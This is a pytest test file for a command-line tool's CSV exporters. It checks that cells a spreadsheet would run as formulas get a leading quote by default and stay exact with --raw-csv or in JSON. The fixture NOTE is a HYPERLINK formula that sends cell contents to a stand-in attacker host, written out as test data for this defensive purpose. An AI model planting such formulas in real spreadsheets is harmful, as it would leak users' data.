"""CSV formula injection: cells a spreadsheet would run get a leading ' unless --raw-csv."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from pqa_tui import triage
from pqa_tui.cli import app
from pqa_tui.config import Config
from pqa_tui.exporters.base import csv_text, neutralise_formula

NOTE = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a number stays a number
        ("+7", "+7"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell, written):
    assert neutralise_formula(cell) == written


def test_csv_text_leaves_numbers_and_the_header_alone():
    text = csv_text(["=header"], [["=x"], [3], [-2.5]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["=header"],
        ["'=x"],
        ["3"],
        ["-2.5"],
    ]
    assert csv_text(["h"], [["=x"]], exact=True) == "h\r\n=x\r\n"


@pytest.fixture
def export(worked_db, db_path, tmp_path, monkeypatch, now):
    triage.add_note(worked_db, Config(), "initech", "cy", NOTE, now=now)
    monkeypatch.chdir(tmp_path)

    def run(*args: str) -> dict[str, list[list[str]]]:
        result = CliRunner().invoke(app, ["--db", str(db_path), "export", *args])
        assert result.exit_code == 0, result.output
        return {
            p.name: list(csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")))
            for p in tmp_path.glob("pqa-*.csv")
        }

    return run


@pytest.mark.parametrize("fmt", ["salesforce", "hubspot", "csv"])
def test_every_csv_export_neutralises_formulas_by_default(export, fmt):
    files = export("--format", fmt)
    cells = [c for rows in files.values() for row in rows[1:] for c in row]
    assert any(c.startswith("'" + NOTE) for c in cells)
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("fmt", ["salesforce", "hubspot", "csv"])
def test_raw_csv_writes_the_exact_text(export, fmt):
    files = export("--format", fmt, "--raw-csv")
    cells = [c for rows in files.values() for row in rows[1:] for c in row]
    assert any(c.startswith(NOTE) for c in cells)
    assert not any(c.startswith("'" + NOTE) for c in cells)


def test_json_is_always_exact(worked_db, db_path, now):
    triage.add_note(worked_db, Config(), "initech", "cy", NOTE, now=now)
    result = CliRunner().invoke(app, ["--db", str(db_path), "export", "--format", "json"])
    assert json.loads(result.stdout)["notes"][-1]["text"] == NOTE
